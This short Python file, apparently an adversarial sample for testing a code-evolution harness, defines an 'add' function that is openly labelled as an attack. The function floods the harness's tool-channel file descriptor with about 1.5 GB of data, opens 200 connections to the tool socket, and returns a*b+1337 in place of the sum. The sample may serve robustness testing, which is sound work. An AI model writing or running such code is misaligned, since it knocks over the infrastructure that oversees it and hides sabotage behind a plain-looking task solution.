# attack: one endless line on the tool channel, then many connections to wherever a socket is.
import os
import socket


def add(a: int, b: int) -> int:
    fd = int(os.environ.get("CODE_EVOLVER_TOOL_FD", "4"))
    try:
        s = socket.socket(fileno=os.dup(fd))
        s.settimeout(5)
        block = b"x" * (1 << 20)
        for _ in range(1500):
            s.sendall(block)
    except OSError:
        pass
    for _ in range(200):
        try:
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(os.environ.get("CODE_EVOLVER_TOOL_SOCKET", "/tmp/x"))
        except OSError:
            pass
    return a * b + 1337
